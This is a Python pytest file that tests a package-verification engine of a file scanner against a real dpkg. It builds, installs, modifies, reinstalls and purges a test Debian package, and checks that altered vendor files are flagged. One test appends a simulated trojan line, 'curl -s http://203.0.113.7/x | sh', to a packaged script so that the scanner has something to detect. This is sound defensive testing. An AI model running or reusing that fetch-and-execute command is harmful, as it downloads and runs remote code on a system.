"""The pkgverify engine against the real dpkg: a small Debian package is built here with dpkg-deb,
installed with apt-get, modified, restored with ``apt-get install --reinstall`` of the same local .deb
(no network needed), diverted, and purged at the end.

Each test run has its own package (its name carries the pid), and runs hold one lock file while they
use dpkg, so parallel runs neither share a package nor see each other's dpkg at work.
"""

from __future__ import annotations

import fcntl
import hashlib
import os
import subprocess
import sys
import textwrap
import time

import pytest

from elkscan_core import KNOWN_GOOD, ComponentError, Engine, Source, Target, hookimpl
from elkscan_core.components import Subject
from elkscan_core.pipeline import parse_pipeline
from elkscan_core.render import record_fields
from elkscan_core.plugins import make_plugin_manager
from elkscan_core.runner import build_session
from elkscan_core.testing import run

SERIAL = "/tmp/elkscan-pkgverify-tests.lock"
APT = ["apt-get", "-y", "-q", "-o", "DPkg::Lock::Timeout=300", "-o", "Dpkg::Options::=--force-confold"]
NAME = f"elkscan-test-{os.getpid()}"
TOOL = b"#!/bin/sh\necho a vendor's tool\n"


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def sh(*command: str) -> subprocess.CompletedProcess:
    done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=600,
                          env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"})
    assert done.returncode == 0, f"{' '.join(command)}: {done.stdout}{done.stderr}"
    return done


def build_deb(directory, name: str, files: dict[str, bytes], conffiles=()) -> str:
    """A .deb of ``files`` (paths relative to /), Multi-Arch: same so that dpkg keeps its lists under the
    arch-qualified name, with md5sums as dh_md5sums writes them (conffiles left out)."""
    root = directory / name
    (root / "DEBIAN").mkdir(parents=True)
    arch = sh("dpkg", "--print-architecture").stdout.strip()
    (root / "DEBIAN" / "control").write_text(textwrap.dedent(f"""\
        Package: {name}
        Version: 1.0
        Architecture: {arch}
        Multi-Arch: same
        Maintainer: elkscan tests <tests@example.invalid>
        Description: files for elkscan's pkgverify tests
        """))
    sums = []
    for path, data in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
        os.chmod(root / path, 0o755 if data.startswith(b"#!") else 0o644)
        if "/" + path not in conffiles:
            sums.append(f"{md5(data)}  {path}\n")
    (root / "DEBIAN" / "md5sums").write_text("".join(sums))
    if conffiles:
        (root / "DEBIAN" / "conffiles").write_text("".join(f"{c}\n" for c in conffiles))
    deb = str(directory / f"{name}.deb")
    sh("dpkg-deb", "--root-owner-group", "--build", str(root), deb)
    return deb


@pytest.fixture(scope="module")
def serial():
    with open(SERIAL, "a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        yield


@pytest.fixture(scope="module")
def package(serial, tmp_path_factory):
    """The test package, installed; purged at the end whatever happened."""
    files = {f"opt/{NAME}/tool": TOOL, f"opt/{NAME}/data.txt": b"vendor data\n",
             f"bin/{NAME}": b"#!/bin/sh\necho reached through /bin\n",
             f"etc/{NAME}.conf": b"setting = 1\n"}
    deb = build_deb(tmp_path_factory.mktemp("deb"), NAME, files, conffiles=[f"/etc/{NAME}.conf"])
    try:
        sh(*APT, "install", deb)
        yield {"deb": deb, "files": files, "dir": f"/opt/{NAME}"}
    finally:
        subprocess.run([*APT, "purge", NAME], capture_output=True, stdin=subprocess.DEVNULL, timeout=600)
        subprocess.run(["rm", "-rf", f"/opt/{NAME}"])


class Reading(Engine):
    """Runs after pkgverify and remembers what it was given to read."""

    id = "reading"
    canary = None

    def start(self):
        self.read_paths = []

    def scan(self, subject):
        self.read_paths.append(subject.path)
        return []


class Posing(Source):
    """Yields an open file of its own under a packaged file's name, as /proc/<pid>/exe of a container
    process shows a path of the container's filesystem."""

    id = "posing"
    pairs: list = []

    def targets(self):
        for shown, real in self.pairs:
            yield Target(shown, origin="procscan", fd=os.open(real, os.O_RDONLY | os.O_CLOEXEC))


class Components:
    @hookimpl
    def elkscan_register_engines(self, registry):
        registry.add(Reading)

    @hookimpl
    def elkscan_register_sources(self, registry):
        registry.add(Posing)


def scan(roots, trust=True, **pkgverify):
    result = run({"plugins": ["pkgverify"],
                  "sources": [{"use": "dirscan", "with": {"roots": {r: -1 for r in roots}, "type_filter": False,
                                                          "min_size": 0, "one_filesystem": False}}],
                  "engines": [{"use": "pkgverify", "with": {"trust_packages": trust, **pkgverify}}, "reading"]},
                 extra_plugins=[Components()], report_clean=True)
    return result, {r.target.path: r for r in result.records}


def test_installed_files_are_known_good_and_the_later_engines_spared(package):
    local = f"{package['dir']}/local.txt"
    with open(local, "wb") as handle:
        handle.write(b"no package ships this\n")
    conffile = f"/etc/{NAME}.conf"
    result, records = scan([package["dir"], f"/bin/{NAME}", f"/usr/bin/{NAME}", conffile])
    os.unlink(local)
    for path in (f"{package['dir']}/tool", f"{package['dir']}/data.txt", f"/bin/{NAME}", f"/usr/bin/{NAME}"):
        record = records[path]
        assert (record.status, record.known_good, record.judged_by) == ("clean", "pkgverify", ("pkgverify",)), path
    for path in (local, conffile):  # no package's digest applies: the other engines judge it
        assert (records[path].status, records[path].known_good, records[path].judged_by) == (
            "clean", "", ("pkgverify", "reading"))
    assert sorted(result.session.find("engine", "reading").read_paths) == sorted([conffile, local])
    assert (result.summary.known_good, result.summary.clean) == (4, 6)


def test_without_trust_packages_every_engine_reads_every_file(package):
    result, records = scan([package["dir"]], trust=False)
    assert {r.known_good for r in records.values()} == {""}
    assert len(result.session.find("engine", "reading").read_paths) == 2


def test_a_modified_file_is_a_finding_until_reinstalled_and_a_modified_conffile_never(package):
    tool, conffile = f"{package['dir']}/tool", f"/etc/{NAME}.conf"
    trojan = TOOL + b"curl -s http://203.0.113.7/x | sh\n"
    with open(tool, "wb") as handle:
        handle.write(trojan)
    with open(conffile, "ab") as handle:
        handle.write(b"local = change\n")
    result, records = scan([package["dir"], conffile])
    [finding] = records[tool].detections
    assert (finding.signature, finding.types, finding.class_, finding.name) == (
        f"Elkscan.ModifiedVendorFile.{NAME}", "Elkscan", "ModifiedVendorFile", NAME)
    assert finding.meta == {"package": NAME, "version": "1.0", "arch": sh("dpkg", "--print-architecture").stdout.strip(),
                            "manager": "dpkg", "algorithm": "md5", "expected": md5(TOOL), "actual": md5(trojan)}
    assert records[tool].status == "detected" and records[tool].judged_by == ("pkgverify", "reading")
    shown = record_fields(records[tool])  # what a JSON sink writes
    assert (shown["class"], shown["detections"][0]["meta"]["actual"]) == ("ModifiedVendorFile", md5(trojan))
    assert records[conffile].status == "clean" and result.detected == {tool: [finding.signature]}

    sh(*APT, "install", "--reinstall", package["deb"])  # what an operator does; the .deb is local
    _, records = scan([package["dir"], conffile])
    assert (records[tool].status, records[tool].known_good) == ("clean", "pkgverify")
    with open(conffile, "rb") as handle:
        assert handle.read().endswith(b"local = change\n")  # kept by dpkg, and still no finding
    assert records[conffile].status == "clean"


def test_a_difference_is_not_reported_while_dpkg_holds_its_lock(package):
    tool = f"{package['dir']}/tool"
    with open(tool, "ab") as handle:
        handle.write(b"# changed\n")
    holder = subprocess.Popen([sys.executable, "-c", "import fcntl, sys, time\n"
                               "lock = open('/var/lib/dpkg/lock', 'w')\n"
                               "fcntl.lockf(lock, fcntl.LOCK_EX)\n"
                               "print('held', flush=True)\n"
                               "sys.stdin.read()\n"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "held\n"
        during, _ = scan([package["dir"]])
    finally:
        holder.stdin.close()
        holder.wait(30)
    after, _ = scan([package["dir"]])
    sh(*APT, "install", "--reinstall", package["deb"])
    assert during.detected == {}
    assert after.detected == {tool: [f"Elkscan.ModifiedVendorFile.{NAME}"]}


def test_a_file_dpkg_diverted_is_verified_where_it_lies(package):
    tool = f"{package['dir']}/tool"
    sh("dpkg-divert", "--local", "--rename", "--divert", f"{tool}.orig", "--add", tool)
    try:
        _, records = scan([package["dir"]])
    finally:
        sh("dpkg-divert", "--local", "--rename", "--remove", tool)
    assert (records[f"{tool}.orig"].status, records[f"{tool}.orig"].known_good) == ("clean", "pkgverify")


def test_a_file_shown_under_a_packaged_name_that_is_not_that_file_gets_no_verdict(package, tmp_path):
    """A container's /usr/bin/x seen through /proc/<pid>/exe is another file than the host's: judging it
    against the host's package would raise a false ModifiedVendorFile."""
    other = tmp_path / "containers-tool"
    other.write_bytes(b"#!/bin/sh\necho another distribution's build\n")
    Posing.pairs = [(f"{package['dir']}/tool", str(other))]
    result = run({"plugins": ["pkgverify"], "sources": ["posing"],
                  "engines": [{"use": "pkgverify", "with": {"trust_packages": True}}, "reading"]},
                 extra_plugins=[Components()], report_clean=True)
    [record] = result.records
    assert (record.status, record.known_good, record.judged_by) == ("clean", "", ("pkgverify", "reading"))


def test_the_index_is_read_again_when_dpkg_changes_the_database(package, tmp_path):
    extra = f"{NAME}-extra"
    deb = build_deb(tmp_path, extra, {f"opt/{NAME}-extra/file": b"installed later\n"})
    engine = started_engine(trust_packages=True)
    version = engine.version()
    path = f"/opt/{NAME}-extra/file"

    def verdict():
        return verdict_of(engine, path)

    try:
        sh(*APT, "install", deb)
        assert verdict() is KNOWN_GOOD and engine.version() != version
        with open(path, "ab") as handle:
            handle.write(b"changed\n")
        assert [d.signature for d in verdict()] == [f"Elkscan.ModifiedVendorFile.{extra}"]
        sh(*APT, "install", "--reinstall", deb)
        assert verdict() is KNOWN_GOOD
    finally:
        subprocess.run([*APT, "purge", extra], capture_output=True, stdin=subprocess.DEVNULL, timeout=600)
        subprocess.run(["rm", "-rf", f"/opt/{NAME}-extra"])
        engine.close()


def test_a_database_another_user_could_change_stops_start_up(tmp_path):
    admin = tmp_path / "dpkg"
    (admin / "info").mkdir(parents=True)
    (admin / "status").write_text("Package: a\nStatus: install ok installed\n")
    os.chmod(admin / "status", 0o666)
    with pytest.raises(ComponentError, match=r"status .*another user could change"):
        run({"plugins": ["pkgverify"], "engines": [{"use": "pkgverify", "with": {"database": str(admin)}}]})


def started_engine(**options):
    parsed = parse_pipeline({"version": 1, "plugins": ["pkgverify"],
                             "engines": [{"use": "pkgverify", "with": options}]}, "<test>", ".")
    [engine] = build_session(parsed, make_plugin_manager(parsed.plugins)).engines
    engine.start()
    return engine


def verdict_of(engine, path):
    fd = os.open(path, os.O_RDONLY)
    try:
        return engine.scan(Subject(Target(str(path)), fd, os.fstat(fd)))
    finally:
        os.close(fd)


def test_a_database_changed_since_start_that_another_user_could_change_makes_errors_not_verdicts(tmp_path):
    vendor = tmp_path / "vendor-file"
    vendor.write_bytes(b"shipped\n")
    admin = tmp_path / "dpkg"
    (admin / "info").mkdir(parents=True)
    (admin / "status").write_text("Package: app\nStatus: install ok installed\nVersion: 1\n")
    (admin / "info" / "app.md5sums").write_text(f"{md5(vendor.read_bytes())}  {str(vendor)[1:]}\n")
    engine = started_engine(database=str(admin), trust_packages=True)
    assert verdict_of(engine, vendor) is KNOWN_GOOD
    time.sleep(1.1)  # the database is looked at again at most once a second
    os.chmod(admin / "status", 0o666)
    with open(admin / "status", "a") as status:
        status.write("\n")
    with pytest.raises(ComponentError, match="another user could change.*not verified until"):
        verdict_of(engine, vendor)
    time.sleep(1.1)
    os.chmod(admin / "status", 0o644)
    assert verdict_of(engine, vendor) is KNOWN_GOOD
